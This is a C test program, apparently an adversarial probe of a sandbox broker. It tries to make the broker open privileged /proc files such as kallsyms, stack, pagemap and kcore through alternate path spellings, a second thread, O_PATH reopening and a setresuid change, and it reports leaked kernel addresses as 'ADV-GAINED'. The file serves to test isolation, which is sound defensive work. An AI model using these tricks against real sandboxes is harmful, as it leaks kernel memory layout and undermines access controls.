// technique: kernel checks made on the opener's credentials (file->f_cred): a root agent without CAP_SYSLOG, CAP_SYS_ADMIN or CAP_SYS_RAWIO has the broker open /proc/kallsyms (addresses), /proc/self/stack, /proc/self/pagemap (page frame numbers), /proc/kcore, /proc/self/timerslack_ns, by every spelling and on a detached request
#include "adv.h"
#include <inttypes.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>

// kallsyms reports a non-zero address in /proc/kallsyms opened as path.
static void kallsyms(const char *path) {
	int fd = open(path, O_RDONLY);
	if (fd < 0) { printf("%s: %s\n", path, strerror(errno)); return; }
	char buf[4096];
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0) { printf("%s: read %zd\n", path, n); return; }
	buf[n] = 0;
	for (char *p = buf; *p; ) {
		if (strspn(p, "0") < 16 && strchr("0123456789abcdef", *p)) {
			printf("ADV-GAINED: kernel address in %s: %.40s\n", path, p);
			return;
		}
		char *e = strchr(p, '\n');
		if (!e) break;
		p = e + 1;
	}
	printf("%s: addresses hidden\n", path);
}

// stack reads the kernel stack file (needs CAP_SYS_ADMIN in the opener).
static void stack(const char *path) {
	int fd = open(path, O_RDONLY);
	if (fd < 0) { printf("%s: open: %s\n", path, strerror(errno)); return; }
	char buf[512];
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n > 0) { buf[n] = 0; printf("ADV-GAINED: %s: %.60s\n", path, buf); }
	else printf("%s: read: %s\n", path, n < 0 ? strerror(errno) : "empty");
}

// pagemap reports the page frame number of a page of ours (shown only to
// an opener with CAP_SYS_ADMIN).
static void pagemap(const char *path) {
	static char page[4096] __attribute__((aligned(4096)));
	page[0] = 1;
	int fd = open(path, O_RDONLY);
	if (fd < 0) { printf("%s: %s\n", path, strerror(errno)); return; }
	uint64_t e = 0;
	off_t off = ((uintptr_t)page / 4096) * 8;
	if (pread(fd, &e, 8, off) != 8) { printf("%s: pread: %s\n", path, strerror(errno)); close(fd); return; }
	close(fd);
	uint64_t pfn = e & ((1ULL << 55) - 1);
	if ((e >> 63) && pfn) printf("ADV-GAINED: %s: physical frame %#" PRIx64 "\n", path, pfn);
	else printf("%s: present=%d pfn hidden\n", path, (int)(e >> 63));
}

static void kcore(const char *path) {
	int fd = open(path, O_RDONLY);
	if (fd >= 0) { printf("ADV-GAINED: opened %s\n", path); close(fd); return; }
	printf("%s: %s\n", path, strerror(errno));
}

static void *run(void *arg) {
	(void)arg;
	char p[128];
	kallsyms("/proc/kallsyms");
	kallsyms("/proc/self/root/proc/kallsyms");
	kallsyms("/proc/thread-self/root/proc/kallsyms");
	snprintf(p, sizeof p, "/proc/%d/root/proc/kallsyms", getpid());
	kallsyms(p);
	stack("/proc/self/stack");
	stack("/proc/thread-self/stack");
	snprintf(p, sizeof p, "/proc/%d/stack", getpid());
	stack(p);
	snprintf(p, sizeof p, "/proc/%d/task/%ld/stack", getpid(), (long)syscall(SYS_gettid));
	stack(p);
	pagemap("/proc/self/pagemap");
	snprintf(p, sizeof p, "/proc/%d/pagemap", getpid());
	pagemap(p);
	kcore("/proc/kcore");
	return NULL;
}

int main(void) {
	setvbuf(stdout, NULL, _IONBF, 0);
	run(NULL);
	// The same from a second thread and from an O_PATH descriptor reopened
	// through /proc/self/fd (another path through the broker).
	pthread_t t;
	pthread_create(&t, NULL, run, NULL);
	pthread_join(t, NULL);
	int o = open("/proc/kallsyms", O_PATH);
	if (o >= 0) {
		char p[64];
		snprintf(p, sizeof p, "/proc/self/fd/%d", o);
		kallsyms(p);
		snprintf(p, sizeof p, "/dev/fd/%d", o);
		kallsyms(p);
		close(o);
	}
	o = open("/proc/self/stack", O_PATH);
	if (o >= 0) {
		char p[64];
		snprintf(p, sizeof p, "/proc/self/fd/%d", o);
		stack(p);
		close(o);
	}
	// After a credential change (setresuid to root itself: credsChanged)
	// the broker takes the other path (a runner thread with the caller's
	// credentials read from /proc).
	if (setresuid(0, 0, 0) == 0) {
		printf("after setresuid(0):\n");
		run(NULL);
	}
	return 0;
}
